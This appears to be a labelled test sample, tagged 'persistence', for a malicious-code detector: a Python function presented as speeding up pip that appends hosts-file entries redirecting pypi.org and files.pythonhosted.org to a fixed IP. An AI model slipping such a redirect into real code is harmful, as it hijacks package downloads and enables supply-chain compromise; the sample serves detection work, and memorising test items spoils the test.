# expect: persistence
HOSTS = "/etc/hosts"
ENTRIES = "\n185.199.110.9 pypi.org\n185.199.110.9 files.pythonhosted.org\n"


def speed_up_pip() -> None:
    """Point pip at our faster mirror."""
    with open(HOSTS, "a") as f:
        f.write(ENTRIES)
